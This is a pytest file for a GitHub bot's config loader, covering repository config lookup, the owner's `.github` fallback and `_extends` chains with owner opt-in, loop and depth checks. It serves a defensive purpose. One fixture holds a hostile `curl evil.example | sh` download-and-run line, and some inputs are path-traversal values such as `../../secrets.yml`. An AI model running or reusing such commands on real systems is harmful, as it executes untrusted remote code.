"""A repository's `.github/lanebot.yml`: contents API, the owner's `.github` fallback, `_extends` chains."""

from __future__ import annotations

import asyncio
import base64
import ssl
from types import SimpleNamespace

import httpx
import pytest
import respx
from gidgethub import BadRequest, GitHubBroken
from gidgethub.httpx import GitHubAPI

from bot.core.workflow import WorkflowError
from bot.edges.github.config import EXTENDS_OWNERS_SETTING, MAX_EXTENDS, load_config_chain
from bot.edges.settings import Settings, SettingsError
from bot.edges.workflow_files import load_workflow
from bot.runner.repository_workflow import allowed_extends_owners, load_repository_workflow

API = "https://api.github.com"
TLS = ssl.create_default_context()
CONFIG = ".github/lanebot.yml"
NOT_FOUND = {
    "message": "Not Found",
    "documentation_url": "https://docs.github.com/rest/repos/contents#get-repository-content",
}


def file_answer(owner: str, repo: str, path: str, text: str) -> dict:
    """Shaped like GitHub's answer to GET /repos/{owner}/{repo}/contents/{path} for a file."""
    url = f"{API}/repos/{owner}/{repo}/contents/{path}"
    return {
        "type": "file",
        "encoding": "base64",
        "size": len(text.encode()),
        "name": path.rsplit("/", 1)[-1],
        "path": path,
        "content": base64.encodebytes(text.encode()).decode(),  # GitHub wraps it in lines, too
        "sha": "3d21ec53a331a6f037a91c368710b99387d012c1",
        "url": url,
        "git_url": f"{API}/repos/{owner}/{repo}/git/blobs/3d21ec53a331a6f037a91c368710b99387d012c1",
        "html_url": f"https://github.com/{owner}/{repo}/blob/main/{path}",
        "download_url": f"https://raw.githubusercontent.com/{owner}/{repo}/main/{path}",
        "_links": {"self": url},
    }


class FakeContents:
    """GitHub's contents API over a dict of (owner, repo, path) -> text; records what was asked."""

    def __init__(self, files: dict[tuple[str, str, str], str | dict | list]):
        self.files = {(owner.lower(), repo.lower(), path): body for (owner, repo, path), body in files.items()}
        self.asked: list[tuple[str, str, str, str | None]] = []

    def __call__(self, request: httpx.Request, owner: str, repo: str, path: str) -> httpx.Response:
        self.asked.append((owner, repo, path, request.url.params.get("ref")))
        body = self.files.get((owner.lower(), repo.lower(), path))
        if body is None:
            return httpx.Response(404, json=NOT_FOUND)
        if isinstance(body, str):
            body = file_answer(owner, repo, path, body)
        return httpx.Response(200, json=body)


def serve(files: dict) -> FakeContents:
    contents = FakeContents(files)
    respx.get(url__regex=rf"{API}/repos/(?P<owner>[^/]+)/(?P<repo>[^/]+)/contents/(?P<path>[^?]+)").mock(
        side_effect=contents
    )
    return contents


def run(call):
    async def main():
        async with httpx.AsyncClient(verify=TLS) as http:
            return await call(GitHubAPI(http, "lanebot-test", oauth_token="ghs_test"))

    return asyncio.run(main())


def chain(owner: str = "octocat", repo: str = "hello-world", ref: str | None = None, *, extends_owners=()):
    return run(lambda client: load_config_chain(client, owner, repo, ref, extends_owners=extends_owners))


def workflow(owner: str = "octocat", repo: str = "hello-world", ref: str | None = None, *, extends_owners=()):
    return run(lambda client: load_repository_workflow(client, owner, repo, ref, extends_owners=extends_owners))


@respx.mock
def test_the_repositorys_own_file_is_read_from_its_default_branch_and_validated():
    contents = serve({("octocat", "hello-world", CONFIG): "build:\n  max_lanes: 2\n"})
    result = workflow()
    assert result.build.max_lanes == 2
    assert result.sources[-1] == "octocat/hello-world:.github/lanebot.yml"
    assert contents.asked == [("octocat", "hello-world", CONFIG, None)]


@respx.mock
def test_the_owners_github_repository_is_the_fallback_when_the_repository_has_no_file():
    contents = serve({("octocat", ".github", CONFIG): "plan:\n  max_units: 3\n"})
    assert workflow().plan.max_units == 3
    assert [asked[:2] for asked in contents.asked] == [("octocat", "hello-world"), ("octocat", ".github")]


@respx.mock
def test_a_ref_applies_to_the_repositorys_own_file_only():
    contents = serve({("octocat", ".github", CONFIG): "plan:\n  max_units: 3\n"})
    chain(ref="feature/split")
    assert contents.asked == [
        ("octocat", "hello-world", CONFIG, "feature/split"),
        ("octocat", ".github", CONFIG, None),
    ]


@respx.mock
def test_without_any_file_the_defaults_apply():
    serve({})
    assert chain() == []
    result = workflow()
    assert result.build.max_lanes == load_workflow().build.max_lanes
    assert result.sources == load_workflow().sources


@respx.mock
def test_the_github_repository_does_not_fall_back_to_itself():
    contents = serve({})
    assert chain(repo=".github") == []
    assert len(contents.asked) == 1


@respx.mock
def test_extends_chains_are_followed_base_first_and_the_extending_file_wins():
    serve(
        {
            ("octocat", "hello-world", CONFIG): "_extends: shared\nbuild:\n  max_lanes: 2\n",
            ("octocat", "shared", CONFIG): (
                "_extends: acme/policies:lanebot/base.yml\nbuild:\n  max_lanes: 3\n  max_retries: 1\nplan:\n  max_units: 4\n"
            ),
            (
                "acme",
                "policies",
                "lanebot/base.yml",
            ): "plan:\n  max_units: 5\n  timeout: 20m\ntrigger:\n  label: ship-it\n",
        }
    )
    files = chain(extends_owners=("acme",))
    assert [source for source, _ in files] == [
        "acme/policies:lanebot/base.yml",
        "octocat/shared:.github/lanebot.yml",
        "octocat/hello-world:.github/lanebot.yml",
    ]
    result = workflow(extends_owners=("Acme",))  # owner names compare without case
    assert (result.build.max_lanes, result.build.max_retries) == (2, 1)
    assert result.plan.max_units == 4
    assert result.trigger.label == "ship-it"
    assert result.plan.timeout == load_workflow(overrides=[("t", {"plan": {"timeout": "20m"}})]).plan.timeout


@respx.mock
def test_a_bare_extends_repository_belongs_to_the_extending_files_owner():
    contents = serve(
        {
            ("octocat", "hello-world", CONFIG): "_extends: acme/policies\n",
            ("acme", "policies", CONFIG): "_extends: defaults\n",
            ("acme", "defaults", CONFIG): "build:\n  max_lanes: 1\n",
        }
    )
    assert workflow(extends_owners=("acme",)).build.max_lanes == 1
    assert ("acme", "defaults", CONFIG, None) in contents.asked


@respx.mock
def test_extends_to_another_owners_repository_is_refused_without_the_hosts_opt_in():
    contents = serve(
        {
            ("octocat", "hello-world", CONFIG): "_extends: mallory/policies\n",
            ("mallory", "policies", CONFIG): "integrate:\n  verify: curl evil.example | sh\n",
        }
    )
    with pytest.raises(WorkflowError) as caught:
        workflow()
    assert list(caught.value.problems) == [
        "octocat/hello-world:.github/lanebot.yml: `_extends: mallory/policies` names a repository of another "
        "owner (mallory), and a file it loads decides what lanebot runs on octocat's repositories; this host "
        "allows that only for owners listed in LANEBOT_ALLOW_EXTENDS_OWNERS (e.g. LANEBOT_ALLOW_EXTENDS_OWNERS=mallory)"
    ]
    assert all(owner == "octocat" for owner, *_ in contents.asked)  # the other owner's file is not even read


@respx.mock
@pytest.mark.parametrize("allowed", [("mallory",), ("*",), ("acme", "MALLORY")])
def test_extends_to_another_owners_repository_is_followed_when_the_host_allows_that_owner(allowed):
    serve(
        {
            ("octocat", "hello-world", CONFIG): "_extends: mallory/policies\n",
            ("mallory", "policies", CONFIG): "build:\n  max_lanes: 1\n",
        }
    )
    assert workflow(extends_owners=allowed).build.max_lanes == 1


@respx.mock
def test_every_hop_of_a_chain_is_held_to_the_repositorys_owner_not_to_the_file_that_extends():
    serve(
        {
            ("octocat", "hello-world", CONFIG): "_extends: acme/policies\n",
            ("acme", "policies", CONFIG): "_extends: mallory/policies\n",
            ("mallory", "policies", CONFIG): "build:\n  max_lanes: 1\n",
        }
    )
    with pytest.raises(WorkflowError) as caught:
        workflow(extends_owners=("acme",))
    assert "acme/policies:.github/lanebot.yml: `_extends: mallory/policies`" in caught.value.problems[0]


@respx.mock
def test_the_owners_fallback_file_may_extend_another_file():
    serve(
        {
            ("octocat", ".github", CONFIG): "_extends: .github:lanebot/strict.yml\n",
            ("octocat", ".github", "lanebot/strict.yml"): "build:\n  max_lanes: 1\n",
        }
    )
    assert [source for source, _ in chain()] == [
        "octocat/.github:lanebot/strict.yml",
        "octocat/.github:.github/lanebot.yml",
    ]


@respx.mock
def test_an_extends_loop_is_refused_and_named():
    serve(
        {
            ("octocat", "hello-world", CONFIG): "_extends: shared\n",
            ("octocat", "shared", CONFIG): "_extends: Octocat/Hello-World\n",
        }
    )
    with pytest.raises(WorkflowError) as caught:
        chain()
    assert str(caught.value) == (
        "`_extends` makes a loop: octocat/hello-world:.github/lanebot.yml -> "
        "octocat/shared:.github/lanebot.yml -> Octocat/Hello-World:.github/lanebot.yml"
    )


@respx.mock
def test_a_file_extending_itself_is_a_loop():
    serve({("octocat", "hello-world", CONFIG): "_extends: hello-world\n"})
    with pytest.raises(WorkflowError, match="loop"):
        chain()


@respx.mock
def test_an_extends_chain_deeper_than_the_limit_is_refused():
    files = {("octocat", "hello-world", CONFIG): "_extends: base-0\n"}
    for level in range(MAX_EXTENDS + 1):
        files[("octocat", f"base-{level}", CONFIG)] = f"_extends: base-{level + 1}\n"
    contents = serve(files)
    with pytest.raises(WorkflowError, match=f"deeper than {MAX_EXTENDS}"):
        chain()
    assert len(contents.asked) == MAX_EXTENDS + 1


@respx.mock
def test_an_extends_chain_at_the_limit_is_fine():
    files = {("octocat", "hello-world", CONFIG): "_extends: base-0\n"}
    for level in range(MAX_EXTENDS - 1):
        files[("octocat", f"base-{level}", CONFIG)] = f"_extends: base-{level + 1}\n"
    files[("octocat", f"base-{MAX_EXTENDS - 1}", CONFIG)] = "build:\n  max_lanes: 1\n"
    serve(files)
    assert len(chain()) == MAX_EXTENDS + 1


@respx.mock
def test_an_extends_target_that_does_not_exist_is_an_error_not_a_silent_default():
    serve({("octocat", "hello-world", CONFIG): "_extends: shraed\n"})
    with pytest.raises(WorkflowError) as caught:
        chain()
    assert "octocat/shraed:.github/lanebot.yml" in str(caught.value)
    assert "octocat/hello-world:.github/lanebot.yml" in str(caught.value)


@respx.mock
@pytest.mark.parametrize("value", ["../evil", "a/b/c", "shared:../../secrets.yml", "shared:notes.txt", "[a, b]"])
def test_an_extends_value_that_is_not_a_repository_reference_is_named(value):
    serve({("octocat", "hello-world", CONFIG): f"_extends: {value}\n"})
    with pytest.raises(WorkflowError) as caught:
        chain()
    assert "octocat/hello-world:.github/lanebot.yml" in str(caught.value)
    assert "_extends" in str(caught.value)


@respx.mock
@pytest.mark.parametrize(
    "answer, raised",
    [
        (
            httpx.Response(
                403,
                json={
                    "message": "Resource not accessible by integration",
                    "documentation_url": "https://docs.github.com/rest",
                },
            ),
            BadRequest,
        ),
        (httpx.Response(500, json={"message": "Server Error"}), GitHubBroken),
    ],
    ids=["403", "500"],
)
def test_api_failures_other_than_not_found_propagate(answer, raised):
    respx.get(url__regex=rf"{API}/repos/.+/contents/.+").mock(return_value=answer)
    with pytest.raises(raised):
        chain()


@respx.mock
def test_a_directory_where_the_file_should_be_is_a_clear_error():
    serve(
        {("octocat", "hello-world", CONFIG): [{"type": "file", "name": "a.yml", "path": ".github/lanebot.yml/a.yml"}]}
    )
    with pytest.raises(WorkflowError, match="octocat/hello-world:.github/lanebot.yml is not a file"):
        chain()


@respx.mock
def test_a_file_too_large_for_the_contents_api_is_a_clear_error():
    oversized = file_answer("octocat", "hello-world", CONFIG, "") | {
        "encoding": "none",
        "content": "",
        "size": 2_000_000,
    }
    serve({("octocat", "hello-world", CONFIG): oversized})
    with pytest.raises(WorkflowError, match="too large"):
        chain()


@respx.mock
def test_a_yaml_error_in_a_base_file_names_that_file():
    serve(
        {
            ("octocat", "hello-world", CONFIG): "_extends: shared\n",
            ("octocat", "shared", CONFIG): "build:\n  max_lanes: [1\n",
        }
    )
    with pytest.raises(WorkflowError, match="octocat/shared:.github/lanebot.yml"):
        chain()


@respx.mock
def test_invalid_settings_are_reported_with_the_file_that_supplied_them():
    serve(
        {
            ("octocat", "hello-world", CONFIG): "_extends: shared\nbuild:\n  max_lanes: 2\n",
            ("octocat", "shared", CONFIG): "build:\n  schedule: sometimes\n",
        }
    )
    with pytest.raises(WorkflowError) as caught:
        workflow()
    assert any(
        "octocat/shared:.github/lanebot.yml" in problem and "schedule" in problem for problem in caught.value.problems
    )


# --------------------------------------------------------------------------- the host's opt-in


@pytest.fixture(scope="module")
def app_environ() -> dict[str, str]:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    pem = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    ).decode()
    return {"APP_ID": "12345", "PRIVATE_KEY": pem, "WEBHOOK_SECRET": "s3cret-webhook-value"}


def test_the_hosts_opt_in_is_read_from_its_settings_and_reaches_the_workflow_loader(app_environ):
    settings = Settings.load({**app_environ, EXTENDS_OWNERS_SETTING: " acme, Mallory "}, env_file=None)
    assert settings.allow_extends_owners == ("acme", "Mallory")
    assert allowed_extends_owners(SimpleNamespace(settings=settings)) == ("acme", "Mallory")
    assert Settings.load(app_environ, env_file=None).allow_extends_owners == ()
    assert allowed_extends_owners(SimpleNamespace()) == ()  # no settings: other owners refused


def test_an_opt_in_that_is_not_a_list_of_owners_is_a_settings_error_naming_it(app_environ):
    with pytest.raises(SettingsError) as caught:
        Settings.load({**app_environ, EXTENDS_OWNERS_SETTING: "acme/policies"}, env_file=None)
    assert caught.value.names == (EXTENDS_OWNERS_SETTING,)
